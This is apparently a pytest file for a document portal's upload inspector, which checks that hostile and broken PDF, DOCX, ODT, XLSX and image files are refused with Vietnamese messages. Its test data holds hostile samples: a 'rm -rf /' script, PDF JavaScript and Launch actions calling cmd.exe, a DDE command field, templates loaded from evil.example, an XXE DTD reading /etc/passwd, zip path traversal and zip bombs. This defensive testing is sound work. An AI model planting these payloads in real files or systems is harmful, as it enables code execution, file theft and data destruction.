"""Originals: told from their content, refused with a sentence, published byte for byte."""

from __future__ import annotations

import io
import json
import tracemalloc
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

import filemakers as make
from thidua.attachments.inspection import inspect_file, refusals
from thidua.attachments.inspection.facts import Extent, Findings, Inspected
from thidua.attachments.inspection.inspection import inspect
from thidua.attachments.inspection.naming import TABLES
from thidua.attachments.inspection.preview import draw
from thidua.attachments.inspection.recognised import unprinted
from thidua.foundation.store import Memo, Store
from thidua.model import paths
from thidua.model.document import Language
from thidua.portal.loading import load_or_raise
from thidua.portal.plan_summary import PlanSummary
from thidua.portal.published_plan import PublishedPlan
from thidua.site.audit.pages import read_page
from thidua.site.pages.originals import FileCard, list_files
from thidua.site.search.entries import OUTLINE, Place, make_plan_entry
from workspace import SAMPLE, SAMPLE_PLAN, Workspace

pytestmark = pytest.mark.sweep

JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
CONTENT_TYPES, DOCUMENT = "[Content_Types].xml", "word/document.xml"
RELS = "word/_rels/document.xml.rels"
BASE = "https://thidua.xamau.example/"
FOLDER = "ke-hoach/xa-mau-2026-kinh-te-xa-hoi"
DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
Maker = Callable[[], bytes]


def in_body(xml: str) -> bytes:
    """A DOCX with XML of the test's own after its last paragraph."""
    return make.replaced(make.docx(), DOCUMENT, "</w:body>", f"{xml}</w:body>")


def ole(name: str) -> bytes:
    """A file of the old container that names a part."""
    return make.OLE + name.encode("utf-16-le") + bytes(512)


def doubled(content: bytes) -> bytes:
    """A zip file in which a name comes twice."""
    out = io.BytesIO(make.renamed_member(content, "word/zzzzzzzz.xml"))
    return out.getvalue().replace(b"word/zzzzzzzz.xml", b"word/document.xml")


def partly_xlsx(more: dict[str, bytes | str]) -> bytes:
    return make.changed(make.xlsx(), more)


REFUSED: dict[str, tuple[str, Maker, str]] = {
    "empty": (".pdf", lambda: b"", "rỗng"),
    "program": (".pdf", lambda: b"MZ\x90\0" + bytes(90), "chương trình chạy (EXE)"),
    "script": (".txt", lambda: b"#!/bin/sh\nrm -rf /\n", "tệp lệnh"),
    "rtf as doc": (".doc", lambda: b"{\\rtf1 x}", "tệp RTF"),
    "html as text": (".txt", lambda: b" <!DOCTYPE html><script>", "HTML"),
    "zip": (".zip", lambda: make.zipped({"a.txt": "a"}), "tệp nén ZIP"),
    "slides": (
        ".docx",
        lambda: make.zipped({CONTENT_TYPES: "presentationml.presentation.main+xml"}),
        "tệp trình chiếu",
    ),
    "spreadsheet of odf": (
        ".odt",
        lambda: make.zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "OpenDocument không phải văn bản",
    ),
    "unknown suffix": (".exe", lambda: b"xin ch\xc3\xa0o", "Không nhận loại tệp"),
    "legacy doc": (".doc", lambda: ole("WordDocument"), "Word đời cũ (.doc)"),
    "doc renamed docx": (".docx", lambda: ole("WordDocument"), "Word đời cũ (.doc)"),
    "legacy xls": (".xls", lambda: ole("Workbook"), "Excel đời cũ (.xls)"),
    "pdf named docx": (".docx", make.pdf, "là PDF, không đúng đuôi"),
    "docx named xlsx": (".xlsx", make.docx, "là Word (DOCX), không đúng đuôi"),
    "png named jpg": (".jpg", lambda: make.picture("PNG"), "là ảnh PNG, không đúng đuôi"),
    "text named pdf": (".pdf", lambda: b"xin chao", "là văn bản thuần (TXT), không đúng đuôi"),
    "noise named pdf": (".pdf", lambda: bytes(range(128, 256)) * 9, "không phải là PDF"),
    "encrypted pdf": (".pdf", lambda: make.encrypted_pdf("RC4-128"), "bị mã hóa: đặt mật khẩu"),
    "pdf of unknown cipher": (
        ".pdf",
        lambda: make.pdf(
            objects=["<< /Filter /Standard /V 5 /R 6 /Length 256 /P -1 /O () /U () >>"],
            trailer="/Encrypt 100 0 R /ID [(a) (b)]",
        ),
        "bị mã hóa: đặt mật khẩu",
    ),
    "encrypted docx": (".docx", lambda: ole("EncryptedPackage"), "bị mã hóa bằng mật khẩu"),
    "javascript on opening": (
        ".pdf", lambda: make.pdf(catalogue=f"/OpenAction {JS}"), "JavaScript",
    ),
    "javascript in disguise": (
        ".pdf",
        lambda: make.pdf(catalogue="/AA << /WC << /S /J#61vaScript >> >>"),
        "JavaScript",
    ),
    "javascript by reference": (
        ".pdf",
        lambda: make.pdf(catalogue="/OpenAction << /S 100 0 R >>", objects=["/JavaScript"]),
        "JavaScript",
    ),
    "javascript by name": (
        ".pdf", lambda: make.pdf(catalogue="/Names << /JavaScript 100 0 R >>"), "JavaScript",
    ),
    "javascript in an object stream": (
        ".pdf", lambda: make.with_object_stream("/OpenAction 100 0 R", JS), "JavaScript",
    ),
    "javascript in a link": (
        ".pdf",
        lambda: make.pdf(objects=["<< /S /URI /URI (java\\011Script:alert\\(1\\)) >>"]),
        "liên kết `javascript:",
    ),
    "launch": (
        ".pdf", lambda: make.pdf(objects=["<< /S /Launch /F (cmd.exe) >>"]), "(Launch)",
    ),
    "file in a pdf": (
        ".pdf",
        lambda: make.pdf(objects=["<< /Type /Filespec /F (a.exe) /EF << /F 1 0 R >> >>"]),
        "tệp khác đính kèm",
    ),
    "file as an annotation": (
        ".pdf",
        lambda: make.pdf(objects=["[ << /Subtype /FileAttachment >> ]"]),
        "tệp khác đính kèm",
    ),
    "not fetched by git": (
        ".pdf", lambda: b"version https://git-lfs.github.com/spec/v1\nsize 9\n", "Git LFS"
    ),
    "form of xfa": (
        ".pdf", lambda: make.pdf(catalogue="/AcroForm << /XFA (x) >>"), "biểu mẫu động (XFA)",
    ),
    "rich media": (".pdf", lambda: make.pdf(objects=["<< /Subtype /RichMedia >>"]), "RichMedia"),
    "pdf of countless lines": (
        ".pdf",
        lambda: make.pdf([") Tj ET " + "0 0 9 9 re f " * 400_000 + "BT (x"]),
        "vẽ quá nhiều nét",
    ),
    "pdf cut off": (".pdf", lambda: make.pdf()[:-300], "bị cắt cụt"),
    "broken pdf": (".pdf", lambda: b"%PDF-1.7\nkhong co gi\n%%EOF\n", "bị hỏng, không đọc được"),
    "macro part": (
        ".docx", lambda: make.changed(make.docx(), {"word/vbaProject.bin": b"x"}), "chứa macro",
    ),
    "macro type": (
        ".docx",
        lambda: make.replaced(
            make.docx(), CONTENT_TYPES,
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "chứa macro",
    ),
    "macro workbook": (
        ".xlsx", lambda: partly_xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "chứa macro",
    ),
    "external template": (
        ".docx",
        lambda: make.changed(make.docx(), {
            "word/_rels/settings.xml.rels": make.relation(
                "attachedTemplate", "https://evil.example/a.dotm"
            )
        }),
        "nạp mẫu (template) từ nơi khác",
    ),
    "external object": (
        ".docx",
        lambda: make.changed(
            make.docx(), {RELS: make.relation("oleObject", "file://evil/a.doc")}
        ),
        "nạp nội dung hoặc chạy lệnh từ nơi khác",
    ),
    "field of dde": (
        ".docx",
        lambda: in_body(
            "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
            "<w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
        ),
        "trường DDE, nạp nội dung hoặc chạy lệnh",
    ),
    "link of dde": (
        ".xlsx",
        lambda: partly_xlsx({"xl/externalLinks/externalLink1.xml": "<a><ddeLink/></a>"}),
        "nạp nội dung hoặc chạy lệnh từ nơi khác",
    ),
    "ole object": (
        ".docx",
        lambda: make.changed(make.docx(), {"word/embeddings/oleObject1.bin": make.OLE}),
        "đối tượng OLE",
    ),
    "ole element": (".docx", lambda: in_body("<o:OLEObject xmlns:o='urn:o'/>"), "đối tượng OLE"),
    "program in a docx": (
        ".docx",
        lambda: make.changed(make.docx(), {"word/embeddings/a.bin": b"MZ" + bytes(99)}),
        "đối tượng OLE",
    ),
    "macro in a chart's workbook": (
        ".docx",
        lambda: make.changed(make.docx(), {
            "word/embeddings/a.xlsx": partly_xlsx({"xl/vbaProject.bin": b"x"})
        }),
        "chứa macro",
    ),
    "object in a part of another name": (
        ".docx",
        lambda: make.changed(make.docx(), {"word/a.dat": " <a><OLEObject/></a>".encode("utf-16")}),
        "đối tượng OLE",
    ),
    "activex": (
        ".docx", lambda: make.changed(make.docx(), {"word/activeX/activeX1.xml": "<a/>"}),
        "ActiveX",
    ),
    "dtd": (".docx", lambda: make.changed(make.docx(), {"word/comments.xml": DTD}), "DTD"),
    "dtd in utf-16": (
        ".docx",
        lambda: make.changed(make.docx(), {
            "word/comments.xml": DTD.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
        }),
        "DTD",
    ),
    "macro of odt": (
        ".odt", lambda: make.odt(more={"Basic/Standard/Module1.xml": "<a/>"}), "macro hoặc mã lệnh",
    ),
    "event of odt": (
        ".odt",
        lambda: make.odt('<script:event-listener script:language="x"/>'),
        "macro hoặc mã lệnh",
    ),
    "object of odt": (".odt", lambda: make.odt("<draw:object-ole/>"), "đối tượng OLE"),
    "frame of odt": (
        ".odt",
        lambda: make.odt('<draw:object xlink:href="https://evil.example/"/>'),
        "nạp nội dung hoặc chạy lệnh từ nơi khác",
    ),
    "encrypted odt": (
        ".odt",
        lambda: make.odt(more={
            "META-INF/manifest.xml": "<manifest><encryption-data/></manifest>",
            "content.xml": b"\1\2\3",
        }),
        "bị mã hóa bằng mật khẩu",
    ),
    "dtd of odt": (".odt", lambda: make.odt(more={"styles.xml": DTD}), "DTD"),
    "way up": (".docx", lambda: make.renamed_member(make.docx(), "../a.xml"), "chỉ ra ngoài"),
    "way from the root": (
        ".docx", lambda: make.renamed_member(make.docx(), "/etc/a.xml"), "chỉ ra ngoài",
    ),
    "backslash": (
        ".docx", lambda: make.renamed_member(make.docx(), "..\\a.xml"), "chỉ ra ngoài",
    ),
    "drive": (".docx", lambda: make.renamed_member(make.docx(), "C:/a.xml"), "chỉ ra ngoài"),
    "symlink in a zip": (".docx", lambda: make.with_symlink(make.docx()), "liên kết tượng trưng"),
    "name twice": (".docx", lambda: doubled(make.docx()), "hai phần trùng tên"),
    "name twice but for capitals": (
        ".docx",
        lambda: make.changed(make.docx(), {"WORD/DOCUMENT.XML": "<a/>"}),
        "hai phần trùng tên",
    ),
    "archive behind an archive": (".docx", lambda: make.docx() + make.docx(), "bị hỏng, không mở"),
    "encrypted member": (
        ".docx", lambda: make.with_encrypted_member(make.docx()), "có phần bị mã hóa",
    ),
    "bomb by ratio": (
        ".docx",
        lambda: make.changed(make.docx(), {"word/media/a.png": bytes(9_000_000)}),
        "(bom nén)",
    ),
    "bomb by number": (
        ".xlsx", lambda: partly_xlsx({f"x/{n}": "" for n in range(5001)}), "(bom nén)",
    ),
    "bomb that lies": (
        ".docx", lambda: make.with_lying_size(make.docx(), bytes(9_000_000)), "bị hỏng, không mở",
    ),
    "wrong checksum": (".docx", lambda: make.with_broken_member(make.docx()), "bị hỏng, không mở"),
    "docx cut off": (".docx", lambda: make.docx()[:-400], "bị hỏng, không mở"),
    "xml that is none": (
        ".docx", lambda: make.changed(make.docx(), {DOCUMENT: "<a><b></a>"}), "bị hỏng, không mở",
    ),
    "picture cut off": (".jpg", lambda: make.picture("JPEG")[:-900], "bị hỏng hoặc bị cắt cụt"),
    "broken picture": (
        ".png", lambda: make.picture("PNG")[:60] + bytes(500), "bị hỏng hoặc bị cắt cụt",
    ),
    "too many pixels": (".png", make.huge_png, "quá nhiều điểm ảnh"),
    "blank picture": (".png", lambda: make.blank_picture("PNG"), "trắng trơn"),
    "blank pdf": (".pdf", lambda: make.blank_picture("PDF"), "chỉ có trang trắng"),
    "pdf of a broken picture": (
        ".pdf", lambda: make.scanned_pdf(1).replace(b"\xff\xda", b"\xff\0"), "có hình bị hỏng",
    ),
    "attached to a page": (
        ".pdf", lambda: make.pdf(objects=["<< /Subtype /FileAttachment /FS 7 0 R >>"]), "đính kèm",
    ),
    "tiny picture": (".png", lambda: make.picture("PNG", (200, 280)), "quá nhỏ"),
    "wordless text": (".txt", lambda: b" \n\t\r\n", "không có chữ nào"),
    "content in another file": (
        ".pdf",
        lambda: make.pdf(objects=["<< /Length 0 /F (a.dat) >>\nstream\n\nendstream"]),
        "nằm ngoài nó",
    ),
    "text not in utf-8": (".txt", lambda: b"K\xea ho\xb9ch", "UTF-8"),
    "text in utf-16": (".txt", lambda: "Kế hoạch".encode("utf-16"), "không lưu theo UTF-8"),
    "text with nul": (".txt", lambda: b"a\0b", "chứa byte không"),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("case", REFUSED)
def test_hostile_and_broken_files_are_refused_each_with_its_sentence(case: str) -> None:
    """The sentence names what is wrong, and another says what to do."""
    suffix, made, words = REFUSED[case]
    outcome = inspect(made(), suffix)
    assert isinstance(outcome, refusals.Refusal), outcome
    assert words in outcome.message
    assert outcome.fix.endswith(".")
    assert "{name}" in outcome.message and "{name}" not in "".join(outcome.of("a.pdf"))


def test_a_bomb_that_lies_is_not_unpacked_whole() -> None:
    """Reading stops at the declared size: memory is not the attacker's to fill."""
    content = make.with_lying_size(make.docx(), bytes(90_000_000))
    tracemalloc.start()
    outcome = inspect(content, ".docx")
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert isinstance(outcome, refusals.Refusal)
    assert most < 10_000_000


SIGNATURE = "<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> /SubFilter /adbe.pkcs7.detached >>"
ACCEPTED: dict[str, tuple[str, Maker, dict[str, object]]] = {
    "text pdf": (".pdf", lambda: make.pdf(["one two three four"] * 3), {
        "pages": 3, "has_text": True, "signed": False, "language": None,
        "preview": Extent(480, 679),
    }),
    "signed pdf": (".pdf", lambda: make.pdf(objects=[SIGNATURE]), {"signed": True, "pages": 1}),
    "scanned pdf": (".pdf", make.scanned_pdf, {"pages": 2, "has_text": False}),
    "scan with a stamp of words": (
        ".pdf", lambda: make.pdf(["signed by the chairman", "", ""]), {"has_text": False},
    ),
    "pdf that opens at a page": (
        ".pdf",
        lambda: make.pdf(catalogue="/OpenAction << /S /GoTo /D [10 0 R /Fit] >>"),
        {"pages": 1},
    ),
    "pdf with a link": (
        ".pdf",
        lambda: make.pdf(objects=["<< /S /URI /URI (https://chinhphu.vn/) >>"]),
        {"pages": 1},
    ),
    "docx": (".docx", make.docx, {
        "pages": 1, "has_text": True, "signed": False, "language": Language.VIETNAMESE,
        "preview": None,
    }),
    "foreign docx": (".docx", lambda: make.docx(*["An emulation plan"] * 3), {"language": None}),
    "docx with a link": (
        ".docx",
        lambda: make.changed(make.docx(), {
            "word/_rels/footnotes.xml.rels": make.relation("hyperlink", "https://chinhphu.vn/")
        }),
        {"has_text": True},
    ),
    "docx with a chart": (
        ".docx",
        lambda: make.changed(make.docx(), {"word/embeddings/bang.xlsx": make.xlsx()}),
        {"has_text": True},
    ),
    "docx without a count": (
        ".docx",
        lambda: make.changed(make.docx(), {"docProps/app.xml": "<Properties/>"}),
        {"pages": None},
    ),
    "signed docx": (
        ".docx",
        lambda: make.changed(make.docx(), {"_xmlsignatures/sig1.xml": "<Signature/>"}),
        {"signed": True},
    ),
    "workbook": (".xlsx", lambda: make.xlsx(3), {"pages": 3, "has_text": True}),
    "odt": (".odt", make.odt, {"pages": 4, "language": Language.VIETNAMESE, "signed": False}),
    "signed odt": (
        ".odt",
        lambda: make.odt(more={"META-INF/documentsignatures.xml": "<a/>"}),
        {"signed": True},
    ),
    "png": (".png", lambda: make.picture("PNG"), {"pages": 1, "has_text": False}),
    "jpeg": (".jpeg", lambda: make.picture("JPEG"), {"preview": Extent(480, 679)}),
    "tiff of many pages": (
        ".tif", lambda: make.picture("TIFF", pages=3), {"pages": 3, "has_text": False},
    ),
    "text": (".txt", make.WORDS.encode, {
        "pages": None, "has_text": True, "language": Language.VIETNAMESE, "preview": None,
    }),
    "text without marks": (".txt", lambda: b"Plan for 2026 " * 50, {"language": None}),
}  # fmt: skip


@pytest.mark.parametrize("case", ACCEPTED)
def test_what_an_honest_file_is_is_told_from_it(case: str) -> None:
    """Pages, words, signature and language come from the content."""
    suffix, made, expected = ACCEPTED[case]
    outcome = inspect(made(), suffix)
    assert isinstance(outcome, Findings), outcome
    assert {name: getattr(outcome, name) for name in expected} == expected


def test_outcomes_are_kept_by_content(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An unchanged file is not looked into a second time, whatever it was found to be."""
    store = Store(tmp_path / "store.sqlite")
    (tmp_path / "a.pdf").write_bytes(make.pdf())
    (tmp_path / "b.pdf").write_bytes(make.pdf()[:-300])

    def inspected() -> list[Inspected]:
        names = ("a.pdf", "b.pdf")
        return [inspect_file(tmp_path / name, 20, Memo(store, "x", name)) for name in names]

    before = inspected()
    monkeypatch.setattr("thidua.attachments.inspection.inspection.inspect", None)
    after = inspected()
    assert after == before
    assert isinstance(after[0].outcome, Findings)
    assert after[1].outcome == refusals.TRUNCATED_PDF


def test_where_nothing_can_be_kept_everything_is_made_again(tmp_path: Path) -> None:
    """A check works in a folder that nobody may write to."""
    (tmp_path / "cache").write_bytes(b"a file, not a folder")
    kept = Memo(Store(tmp_path / "cache" / "store.sqlite"), "x", "name")
    assert [kept.get(b"a", lambda: b"made") for _ in range(2)] == [b"made", b"made"]


def test_the_portals_own_tables_keep_their_names() -> None:
    """No file of staff takes the address of a table."""
    assert paths.plan_table("x").startswith(f"{paths.plan('x')}{TABLES}")


def test_a_file_over_the_limit_is_not_even_read(sample: Workspace) -> None:
    """The limit is the portal's own."""
    sample.replace("portal.yml", "max_file_size: 20", "max_file_size: 1")
    folder = sample.folder / "data" / Path(SAMPLE_PLAN).parent
    (folder / "ke-hoach-15-kh-ubnd-2026.txt").write_bytes(b"x" * 1_234_567)
    problems = [str(one) for one in sample.load().problems]
    assert any("nặng 1,2 MB, quá giới hạn 1 MB của Cổng" in one for one in problems), problems


@pytest.mark.parametrize("name", ["../plan.pdf", "/etc/passwd", "..\\a.pdf", "C:a.pdf"])
def test_names_that_are_paths_are_refused_unread(name: str, sample: Workspace) -> None:
    """A plan's files are in its own folder; the advice gives a name made from the plan."""
    sample.replace(SAMPLE_PLAN, "file: phu-luc-1-kh-ubnd-2026.png", f"file: '{name}'")
    problems = [str(one) for one in sample.load().problems]
    assert any("là đường dẫn, không phải tên tệp" in one for one in problems), problems


@pytest.mark.parametrize("kind", ["pdf", "png", "tif"])
def test_previews_are_small_and_always_the_same(kind: str) -> None:
    """A picture of the first page, of the size that was told before."""
    makers: dict[str, Maker] = {
        "pdf": make.pdf,
        "png": lambda: make.picture("PNG"),
        "tif": lambda: make.picture("TIFF", pages=2),
    }
    content = makers[kind]()
    outcome = inspect(content, f".{kind}")
    assert isinstance(outcome, Findings) and outcome.preview
    drawn = draw(content, outcome.preview, kind == "pdf")
    assert drawn == draw(content, outcome.preview, kind == "pdf")
    assert len(drawn) < 30_000
    with Image.open(io.BytesIO(drawn)) as picture:
        assert (picture.format, picture.size) == ("WEBP", outcome.preview)
        assert len(set(picture.convert("L").tobytes())) > 10  # it shows something


def test_previews_of_deep_greys_are_not_blown_out() -> None:
    """Scanners that write sixteen bits a pixel are served too."""
    paper = Image.new("L", (100, 140), 200).convert("I").point(lambda value: value * 256)
    out = io.BytesIO()
    paper.convert("I;16").save(out, "PNG")
    drawn = draw(out.getvalue(), Extent(480, 672), False)
    with Image.open(io.BytesIO(drawn)) as picture:
        middle = set(picture.convert("L").crop((40, 40, 60, 60)).tobytes())
        assert middle and all(abs(grey - 200) < 5 for grey in middle)


def test_a_page_of_any_shape_has_a_preview() -> None:
    """However long or thin a page is, its picture stays small."""
    for box in ("0 0 1 14400", "0 0 14400 1", "0 0 0.01 14400", "0 0 99999999 5"):
        content = make.pdf().replace(b"[0 0 595 842]", f"[{box}]".encode())
        outcome = inspect(content, ".pdf")
        assert isinstance(outcome, Findings) and outcome.preview
        drawn = draw(content, outcome.preview, True)
        assert len(drawn) < 30_000


def test_of_recognised_words_only_new_ones_are_shown() -> None:
    """A scan of what the page prints already adds nothing to it but slips of the machine."""
    recognised = f"{make.WORDS.replace('nhân', 'nhàn')}\nThôn Bến Đá: 980 tấn\n".encode()
    assert unprinted(recognised, [make.WORDS]) == ("Thôn Bến Đá: 980 tấn",)


@pytest.fixture(scope="module")
def site_with_files(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example with a signed PDF, an annex of DOCX and a workbook beside its scan."""
    portal = Workspace(tmp_path_factory.mktemp("files"), SAMPLE)
    folder = portal.folder / "data" / Path(SAMPLE_PLAN).parent
    added = {
        "ke-hoach-15-kh-ubnd-2026.pdf": ("original", make.pdf(["a b"] * 7, objects=[SIGNATURE])),
        "phu-luc-2.docx": ("annex", make.docx()),
        "phu-luc-3.xlsx": ("annex", make.xlsx(3)),
    }
    listed = ""
    for name, (kind, content) in added.items():
        (folder / name).write_bytes(content)
        listed += f"  - {{file: {name}, kind: {kind}, title: Tệp {name}}}\n"
    portal.replace(SAMPLE_PLAN, "history:", f"{listed}history:")
    return portal.written("plan ")


def record_of(site: Path) -> dict[str, Any]:
    path = site / "api/v1/plans/xa-mau-2026-kinh-te-xa-hoi.json"
    files = json.loads(path.read_text("utf-8"))["originals"]
    return {one["name"]: one for one in files}


def test_the_page_tells_what_each_file_is(site_with_files: Path) -> None:
    """Pages, signature and what was not checked; a preview that loads late and has a size."""
    page = read_page(site_with_files / FOLDER / "tom-luoc" / "index.html")
    for words in (
        "PDF · ", "7 trang", "3 trang tính", "Word (DOCX) · ", "theo phần mềm đã lưu tệp",
        "Trong tệp có chữ ký số. Cổng không kiểm tra chữ ký có hợp lệ hay không.",
        "Thôn Suối Khoáng: 1.043 tấn",
        "chữ máy nhận dạng từ bản quét, không phải bản gốc",
    ):  # fmt: skip
        assert words in page.text.replace("\N{NO-BREAK SPACE}", " "), words
    pictures = [one for one in page.all("img") if "xem-truoc-" in one["src"]]
    assert len(pictures) == 2
    for picture in pictures:
        assert picture["loading"] == "lazy"
        assert picture["alt"].startswith("Xem trang đầu của tệp ")
        with Image.open(site_with_files / FOLDER / "tom-luoc" / picture["src"]) as image:
            assert image.size == (int(picture["width"]), int(picture["height"]))


def test_the_interface_tells_what_each_file_is(site_with_files: Path) -> None:
    """The same, for machines."""
    files = record_of(site_with_files)
    signed = files["ke-hoach-15-kh-ubnd-2026.pdf"]
    assert (signed["pages"], signed["signature"], signed["text_layer"]) == (7, True, False)
    assert (site_with_files / signed["preview"]["url"].removeprefix(BASE)).is_file()
    assert files["phu-luc-2.docx"]["preview"] is None
    assert files["phu-luc-2.docx"]["language"] == "vi"
    assert files["phu-luc-3.xlsx"]["pages"] == 3
    text = files["phu-luc-1-kh-ubnd-2026.txt"]
    assert text["recognised_from"] == "phu-luc-1-kh-ubnd-2026.png"


def test_files_are_published_byte_for_byte(site_with_files: Path) -> None:
    """A signature that held before still holds."""
    source = site_with_files.parent / "data" / Path(SAMPLE_PLAN).parent
    for name in record_of(site_with_files):
        assert (site_with_files / FOLDER / name).read_bytes() == (source / name).read_bytes()


def published_plan(portal: Workspace) -> tuple[PublishedPlan, PlanSummary]:
    """The one plan of a portal."""
    catalogue = load_or_raise(portal.folder)
    (plan,) = catalogue.plans
    return catalogue.open_plan(plan), plan


def listed_files(portal: Workspace) -> Sequence[FileCard]:
    """The files of its plan, as the page shows them."""
    published, _ = published_plan(portal)
    return list_files(published)


def searched_places(portal: Workspace) -> Sequence[Place]:
    """The places of its plan that the search knows."""
    return make_plan_entry(*published_plan(portal)).places


def test_recognised_words_are_found_where_the_scan_stands(sample: Workspace) -> None:
    """The search leads to the place on the plan's page, and says that a machine read them."""
    places = searched_places(sample)
    (found,) = [place for place in places if "Thôn Suối Khoáng: 1.043 tấn" in place.texts]
    assert found.anchor == "chu-nhan-dang-1"
    assert OUTLINE["chu-nhan-dang"][0] == "Chữ máy nhận dạng từ bản quét"


def test_long_recognised_text_is_cut_on_the_page(sample: Workspace) -> None:
    """Pages stay light; the file has the rest, and the search finds it."""
    lines = "\n".join(f"Hộ số {number} nhận khoán {number * 7} cây" for number in range(2000))
    sample.write(SAMPLE_PLAN.replace("plan.yml", "phu-luc-1-kh-ubnd-2026.txt"), lines)
    (text,) = [text for card in listed_files(sample) for text in card.texts]
    assert text.has_more
    assert 5_000 < sum(map(len, text.paragraphs)) <= 6_000
    places = searched_places(sample)
    assert any("Hộ số 1999 nhận khoán 13993 cây" in place.texts for place in places)


def test_a_stated_language_wins(sample: Workspace) -> None:
    """Staff know better than letters tell; what looks Vietnamese wants a note of theirs."""
    sample.replace(
        SAMPLE_PLAN, "    language: viet ", "    note: Bản song ngữ.\n    language: tay "
    )
    (file, *_) = listed_files(sample)
    assert ("Ngôn ngữ", "Tiếng Tày") in file.facts
